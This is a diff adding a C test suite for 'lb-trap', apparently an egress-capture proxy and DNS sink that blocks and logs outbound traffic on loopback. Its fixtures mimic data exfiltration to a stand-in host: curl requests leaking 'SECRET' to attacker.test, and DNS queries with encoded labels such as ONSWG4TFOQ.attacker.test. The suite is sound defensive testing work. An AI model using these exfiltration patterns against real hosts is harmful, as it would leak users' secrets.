@@ -1,0 +1,515 @@
+/*
+ * Tests of the real lb-trap binary (BUILD/lb-trap, next to this test's
+ * unit/ directory): started on 127.0.0.1 with port 0 for both listeners,
+ * waited for by its ready line, then driven by the real curl (through
+ * --proxy, trusting the trap's ca.pem) and by raw DNS queries over UDP and
+ * TCP; egress.jsonl is compared whole ("t" replaced by T). Then its
+ * start-up errors, each pinned with its exit status. Only fake names
+ * (*.test) and 127.0.0.1 are used: nothing leaves the machine, and curl
+ * never resolves a name through a proxy.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <ftw.h>
+#include <limits.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <signal.h>
+#include <spawn.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+#include <arpa/inet.h>
+
+#include "tap.h"
+
+static char tmpdir[256], trap_bin[PATH_MAX + 16];
+static const char *clean_env[8] = { "PATH=/usr/bin:/bin" };
+
+static long long
+now_ms(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
+}
+
+/*
+ * Spawns argv with stdout and stderr on pipes. The pid, or -1; *out_fd
+ * and *err_fd are the read ends.
+ */
+static pid_t
+spawn(const char *const argv[], int *out_fd, int *err_fd)
+{
+	posix_spawn_file_actions_t fa;
+	int o[2], e[2];
+	pid_t pid;
+
+	if (pipe2(o, O_CLOEXEC) < 0 || pipe2(e, O_CLOEXEC) < 0)
+		return -1;
+	posix_spawn_file_actions_init(&fa);
+	posix_spawn_file_actions_adddup2(&fa, o[1], 1);
+	posix_spawn_file_actions_adddup2(&fa, e[1], 2);
+	posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
+	if (posix_spawn(&pid, argv[0], &fa, NULL, (char *const *)argv,
+	    (char *const *)clean_env) != 0)
+		pid = -1;
+	posix_spawn_file_actions_destroy(&fa);
+	close(o[1]);
+	close(e[1]);
+	*out_fd = o[0];
+	*err_fd = e[0];
+	return pid;
+}
+
+/* Reads fd until end of stream or the deadline. malloc'd. */
+static char *
+drain(int fd, long long deadline)
+{
+	struct pollfd p = { .fd = fd, .events = POLLIN };
+	char *buf = calloc(1, 65536);
+	size_t n = 0;
+	ssize_t r;
+	long long left;
+
+	while (n < 65535 && (left = deadline - now_ms()) > 0 &&
+	    poll(&p, 1, (int)left) > 0) {
+		r = read(fd, buf + n, 65535 - n);
+		if (r <= 0)
+			break;
+		n += (size_t)r;
+	}
+	return buf;
+}
+
+/* Runs argv to completion (10 s at most). Exit status, or -1. */
+static int
+run(const char *const argv[], char **out, char **err)
+{
+	int ofd, efd, st;
+	pid_t pid = spawn(argv, &ofd, &efd);
+	long long deadline = now_ms() + 10000;
+
+	if (pid < 0)
+		return -1;
+	*out = drain(ofd, deadline);
+	*err = drain(efd, deadline);
+	close(ofd);
+	close(efd);
+	if (waitpid(pid, &st, 0) < 0 || !WIFEXITED(st))
+		return -1;
+	return WEXITSTATUS(st);
+}
+
+/* A file's content with "t" values replaced by T. malloc'd. */
+static char *
+records(const char *path)
+{
+	FILE *f = fopen(path, "r");
+	char *buf, *o, *p;
+	size_t n;
+
+	if (f == NULL)
+		return strdup("(missing)");
+	buf = calloc(1, 1 << 20);
+	n = fread(buf, 1, (1 << 20) - 1, f);
+	fclose(f);
+	buf[n] = '\0';
+	for (p = o = buf; *p;) {
+		if (strncmp(p, "{\"t\":", 5) == 0) {
+			p += 5;
+			while ((*p >= '0' && *p <= '9') || *p == '.')
+				p++;
+			memcpy(o, "{\"t\":T", 6);
+			o += 6;
+			continue;
+		}
+		*o++ = *p++;
+	}
+	*o = '\0';
+	return buf;
+}
+
+/* A DNS query for name (dotted), type. Its length. */
+static size_t
+dns_query(unsigned char *b, const char *name, unsigned type)
+{
+	static const unsigned char hdr[12] = { 0xab, 0xcd, 0x01, 0x00, 0, 1 };
+	size_t n = 12;
+	const char *p = name, *d;
+
+	memcpy(b, hdr, 12);
+	while (*p) {
+		d = strchr(p, '.');
+		if (d == NULL)
+			d = p + strlen(p);
+		b[n++] = (unsigned char)(d - p);
+		memcpy(b + n, p, (size_t)(d - p));
+		n += (size_t)(d - p);
+		p = *d ? d + 1 : d;
+	}
+	b[n++] = 0;
+	b[n++] = (unsigned char)(type >> 8);
+	b[n++] = (unsigned char)type;
+	b[n++] = 0;
+	b[n++] = 1;
+	return n;
+}
+
+static struct sockaddr_in
+loopback(int port)
+{
+	struct sockaddr_in sa;
+
+	memset(&sa, 0, sizeof(sa));
+	sa.sin_family = AF_INET;
+	sa.sin_port = htons((uint16_t)port);
+	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	return sa;
+}
+
+static void
+test_dns(int port)
+{
+	struct sockaddr_in sa = loopback(port);
+	struct pollfd p;
+	unsigned char q[512], a[1024];
+	size_t n;
+	ssize_t r;
+	int fd;
+
+	fd = socket(AF_INET, SOCK_DGRAM, 0);
+	n = dns_query(q, "ONSWG4TFOQ.attacker.test", 16);
+	sendto(fd, q, n, 0, (struct sockaddr *)&sa, sizeof(sa));
+	p = (struct pollfd){ .fd = fd, .events = POLLIN };
+	poll(&p, 1, 5000);
+	r = recv(fd, a, sizeof(a), MSG_DONTWAIT);
+	ok(r == (ssize_t)n && a[0] == 0xab && (a[3] & 0x0f) == 3,
+	    "binary: udp NXDOMAIN");
+	close(fd);
+
+	fd = socket(AF_INET, SOCK_STREAM, 0);
+	ok(connect(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0,
+	    "binary: dns over tcp connects");
+	n = dns_query(q + 2, "6f6f.attacker.test", 28);
+	q[0] = 0;
+	q[1] = (unsigned char)n;
+	write(fd, q, n + 2);
+	p = (struct pollfd){ .fd = fd, .events = POLLIN };
+	poll(&p, 1, 5000);
+	r = read(fd, a, sizeof(a));
+	ok(r == (ssize_t)n + 2 && (a[5] & 0x0f) == 3, "binary: tcp NXDOMAIN");
+	close(fd);
+}
+
+static int
+curl(const char *proxy, const char *ca, const char *url, const char *data,
+    char **code)
+{
+	const char *argv[24];
+	char *err;
+	int i = 0, rc;
+
+	argv[i++] = "/usr/bin/curl";
+	argv[i++] = "-q";
+	argv[i++] = "-s";
+	argv[i++] = "-o";
+	argv[i++] = "/dev/null";
+	argv[i++] = "-w";
+	argv[i++] = "%{http_code}";
+	argv[i++] = "-A";
+	argv[i++] = "lb-test";
+	argv[i++] = "--proxy-header";
+	argv[i++] = "Proxy-Connection:";
+	argv[i++] = "-H";
+	argv[i++] = "Proxy-Connection:";
+	argv[i++] = "--proxy";
+	argv[i++] = proxy;
+	if (ca != NULL) {
+		argv[i++] = "--cacert";
+		argv[i++] = ca;
+	}
+	if (data != NULL) {
+		argv[i++] = "--data-binary";
+		argv[i++] = data;
+	}
+	argv[i++] = url;
+	argv[i] = NULL;
+	rc = run(argv, code, &err);
+	free(err);
+	return rc;
+}
+
+static void
+test_running(void)
+{
+	char recdir[400], cadir[400], sys[400], path[500], proxy[64];
+	const char *argv[20];
+	char *ready, *got, *code, *err = NULL;
+	int ofd, efd, dport = 0, hport = 0, st, rc;
+	pid_t pid;
+	FILE *f;
+
+	snprintf(recdir, sizeof(recdir), "%s/rec", tmpdir);
+	snprintf(cadir, sizeof(cadir), "%s/ca", tmpdir);
+	snprintf(sys, sizeof(sys), "%s/sys.pem", tmpdir);
+	f = fopen(sys, "w");
+	fputs("# system\n", f);
+	fclose(f);
+	argv[0] = trap_bin;
+	argv[1] = "--dns";
+	argv[2] = "127.0.0.1:0";
+	argv[3] = "--http";
+	argv[4] = "127.0.0.1:0";
+	argv[5] = "--records";
+	argv[6] = recdir;
+	argv[7] = "--ca-out";
+	argv[8] = cadir;
+	argv[9] = "--system-bundle";
+	argv[10] = sys;
+	argv[11] = "--idle-timeout";
+	argv[12] = "3";
+	argv[13] = NULL;
+	pid = spawn(argv, &ofd, &efd);
+	ok(pid > 0, "binary: started");
+	{
+		/* The ready line: read it alone, the process stays. */
+		struct pollfd p = { .fd = ofd, .events = POLLIN };
+		char line[256];
+		size_t n = 0;
+		long long deadline = now_ms() + 20000, left;
+		ssize_t r;
+
+		while (n < sizeof(line) - 1 && memchr(line, '\n', n) == NULL &&
+		    (left = deadline - now_ms()) > 0 &&
+		    poll(&p, 1, (int)left) > 0 &&
+		    (r = read(ofd, line + n, sizeof(line) - 1 - n)) > 0)
+			n += (size_t)r;
+		line[n] = '\0';
+		ready = strdup(line);
+	}
+	ok(sscanf(ready, "lb-trap: listening dns 127.0.0.1:%d http "
+	    "127.0.0.1:%d\n", &dport, &hport) == 2 && dport > 0 && hport > 0,
+	    "binary: ready line with the bound ports");
+	{
+		char want[128];
+
+		snprintf(want, sizeof(want), "lb-trap: listening dns "
+		    "127.0.0.1:%d http 127.0.0.1:%d\n", dport, hport);
+		is_str(ready, want, "binary: ready line exact");
+	}
+	free(ready);
+	snprintf(path, sizeof(path), "%s/ca.pem", cadir);
+	ok(access(path, R_OK) == 0, "binary: ca.pem there when ready");
+
+	snprintf(proxy, sizeof(proxy), "http://127.0.0.1:%d", hport);
+	rc = curl(proxy, NULL, "http://attacker.test/leak?k=SECRET", NULL,
+	    &code);
+	is_int(rc, 0, "curl http: exits 0");
+	is_str(code, "403", "curl http: 403");
+	free(code);
+	rc = curl(proxy, path, "https://attacker.test/tls?k=SECRET",
+	    "SECRET=1", &code);
+	is_int(rc, 0, "curl https: verified, exits 0");
+	is_str(code, "403", "curl https: 403");
+	free(code);
+	rc = curl(proxy, NULL, "https://attacker.test/untrusted", NULL, &code);
+	is_int(rc, 60, "curl https without the CA: exit 60");
+	free(code);
+
+	test_dns(dport);
+
+	kill(pid, SIGTERM);
+	got = drain(efd, now_ms() + 10000);
+	is_str(got, "", "binary: nothing on stderr");
+	free(got);
+	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) &&
+	    WEXITSTATUS(st) == 0, "binary: SIGTERM ends it with 0");
+	close(ofd);
+	close(efd);
+
+	snprintf(path, sizeof(path), "%s/egress.jsonl", recdir);
+	got = records(path);
+	is_str(got,
+	    "{\"t\":T,\"kind\":\"http\",\"method\":\"GET\",\"target\":"
+	    "\"http://attacker.test/leak?k=SECRET\",\"version\":\"HTTP/1.1\","
+	    "\"headers\":[[\"Host\",\"attacker.test\"],[\"User-Agent\","
+	    "\"lb-test\"],[\"Accept\",\"*/*\"]],\"head\":\"GET "
+	    "http://attacker.test/leak?k=SECRET HTTP/1.1\\r\\nHost: "
+	    "attacker.test\\r\\nUser-Agent: lb-test\\r\\nAccept: */*\\r\\n"
+	    "\\r\\n\",\"body\":\"\",\"body_bytes\":0,\"truncated\":false,"
+	    "\"tls\":false}\n"
+	    "{\"t\":T,\"kind\":\"connect\",\"target\":\"attacker.test:443\","
+	    "\"head\":\"CONNECT attacker.test:443 HTTP/1.1\\r\\nHost: "
+	    "attacker.test:443\\r\\nUser-Agent: lb-test\\r\\n\\r\\n\"}\n"
+	    "{\"t\":T,\"kind\":\"http\",\"method\":\"POST\",\"target\":"
+	    "\"/tls?k=SECRET\",\"version\":\"HTTP/1.1\",\"headers\":[[\"Host\","
+	    "\"attacker.test\"],[\"User-Agent\",\"lb-test\"],[\"Accept\","
+	    "\"*/*\"],[\"Content-Length\",\"8\"],[\"Content-Type\","
+	    "\"application/x-www-form-urlencoded\"]],\"head\":\"POST "
+	    "/tls?k=SECRET HTTP/1.1\\r\\nHost: attacker.test\\r\\nUser-Agent: "
+	    "lb-test\\r\\nAccept: */*\\r\\nContent-Length: 8\\r\\n"
+	    "Content-Type: application/x-www-form-urlencoded\\r\\n\\r\\n\","
+	    "\"body\":\"SECRET=1\",\"body_bytes\":8,\"truncated\":false,"
+	    "\"tls\":true,\"sni\":\"attacker.test\",\"connect\":"
+	    "\"attacker.test:443\"}\n"
+	    "{\"t\":T,\"kind\":\"connect\",\"target\":\"attacker.test:443\","
+	    "\"head\":\"CONNECT attacker.test:443 HTTP/1.1\\r\\nHost: "
+	    "attacker.test:443\\r\\nUser-Agent: lb-test\\r\\n\\r\\n\"}\n"
+	    "{\"t\":T,\"kind\":\"tls\",\"connect\":\"attacker.test:443\","
+	    "\"sni\":\"attacker.test\",\"error\":\"error:0A000418:SSL "
+	    "routines::tlsv1 alert unknown ca\"}\n"
+	    "{\"t\":T,\"kind\":\"dns\",\"proto\":\"udp\",\"name\":"
+	    "\"ONSWG4TFOQ.attacker.test\",\"type\":\"TXT\",\"class\":\"IN\"}\n"
+	    "{\"t\":T,\"kind\":\"dns\",\"proto\":\"tcp\",\"name\":"
+	    "\"6f6f.attacker.test\",\"type\":\"AAAA\",\"class\":\"IN\"}\n",
+	    "binary: egress.jsonl exact");
+	free(got);
+	{
+		struct stat sb;
+
+		stat(path, &sb);
+		is_int(sb.st_mode & 0777, 0644, "binary: records mode 0644");
+	}
+	snprintf(path, sizeof(path), "%s/bundle.pem", cadir);
+	got = records(path);
+	ok(strncmp(got, "# system\n-----BEGIN CERTIFICATE-----\n", 37) == 0,
+	    "binary: bundle.pem is the system bundle then the CA");
+	free(got);
+	(void)err;
+}
+
+static void
+test_errors(void)
+{
+	struct sockaddr_in sa = loopback(0);
+	socklen_t sl = sizeof(sa);
+	char recdir[400], cadir[400], addr[64], want[600], file[400];
+	const char *argv[12];
+	char *out, *err;
+	int lfd, rc;
+
+	snprintf(recdir, sizeof(recdir), "%s/rec2", tmpdir);
+	snprintf(cadir, sizeof(cadir), "%s/ca2", tmpdir);
+
+	argv[0] = trap_bin;
+	argv[1] = "--records";
+	argv[2] = recdir;
+	argv[3] = NULL;
+	rc = run(argv, &out, &err);
+	is_int(rc, 2, "usage: exit 2");
+	is_str(err, "lb-trap: option '--ca-out' is required\n"
+	    "try 'lb-trap --help'\n", "usage: message");
+	free(out);
+	free(err);
+
+	/* A proxy port already taken. */
+	lfd = socket(AF_INET, SOCK_STREAM, 0);
+	bind(lfd, (struct sockaddr *)&sa, sizeof(sa));
+	listen(lfd, 1);
+	getsockname(lfd, (struct sockaddr *)&sa, &sl);
+	snprintf(addr, sizeof(addr), "127.0.0.1:%d", ntohs(sa.sin_port));
+	argv[0] = trap_bin;
+	argv[1] = "--dns";
+	argv[2] = "127.0.0.1:0";
+	argv[3] = "--http";
+	argv[4] = addr;
+	argv[5] = "--records";
+	argv[6] = recdir;
+	argv[7] = "--ca-out";
+	argv[8] = cadir;
+	argv[9] = NULL;
+	rc = run(argv, &out, &err);
+	is_int(rc, 1, "port taken: exit 1");
+	is_str(out, "", "port taken: no ready line");
+	snprintf(want, sizeof(want), "lb-trap: cannot bind '%s': address "
+	    "already in use\n", addr);
+	is_str(err, want, "port taken: message");
+	free(out);
+	free(err);
+	close(lfd);
+
+	argv[2] = "10.255.255.1:0";
+	argv[4] = "127.0.0.1:0";
+	rc = run(argv, &out, &err);
+	is_int(rc, 1, "address not ours: exit 1");
+	is_str(err, "lb-trap: cannot bind '10.255.255.1:0': cannot assign "
+	    "requested address\n", "address not ours: message");
+	free(out);
+	free(err);
+
+	snprintf(file, sizeof(file), "%s/plainfile", tmpdir);
+	fclose(fopen(file, "w"));
+	snprintf(recdir, sizeof(recdir), "%s/plainfile/rec", tmpdir);
+	argv[2] = "127.0.0.1:0";
+	argv[6] = recdir;
+	rc = run(argv, &out, &err);
+	is_int(rc, 1, "records under a file: exit 1");
+	snprintf(want, sizeof(want), "lb-trap: cannot create records "
+	    "directory '%s': not a directory\n", recdir);
+	is_str(err, want, "records under a file: message");
+	free(out);
+	free(err);
+}
+
+static int
+rm_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
+{
+	(void)st;
+	(void)flag;
+	(void)ftw;
+	return remove(path);
+}
+
+int
+main(void)
+{
+	char self[PATH_MAX], *slash, home[300];
+	ssize_t n;
+
+	n = readlink("/proc/self/exe", self, sizeof(self) - 1);
+	if (n <= 0)
+		return 1;
+	self[n] = '\0';
+	slash = strrchr(self, '/');	/* BUILD/unit/test_trap_bin */
+	*slash = '\0';
+	slash = strrchr(self, '/');
+	*slash = '\0';
+	snprintf(trap_bin, sizeof(trap_bin), "%s/lb-trap", self);
+	snprintf(tmpdir, sizeof(tmpdir), "%s/lb-trap-bin.XXXXXX",
+	    getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
+	if (mkdtemp(tmpdir) == NULL)
+		return 1;
+	/* curl reads no config; the sanitizers keep their options. */
+	snprintf(home, sizeof(home), "HOME=%s", tmpdir);
+	clean_env[1] = home;
+	{
+		static const char *keep[] = { "ASAN_OPTIONS", "UBSAN_OPTIONS",
+		    "LSAN_OPTIONS" };
+		static char kv[3][1024];
+		int k = 2;
+
+		for (int i = 0; i < 3; i++)
+			if (getenv(keep[i]) != NULL) {
+				snprintf(kv[i], sizeof(kv[i]), "%s=%s", keep[i],
+				    getenv(keep[i]));
+				clean_env[k++] = kv[i];
+			}
+	}
+	signal(SIGPIPE, SIG_IGN);
+	if (access(trap_bin, X_OK) != 0) {
+		printf("not ok 1 - lb-trap is not built at %s\n", trap_bin);
+		printf("1..1\n");
+		return 1;
+	}
+	test_running();
+	test_errors();
+	nftw(tmpdir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
+	return tap_done();
+}
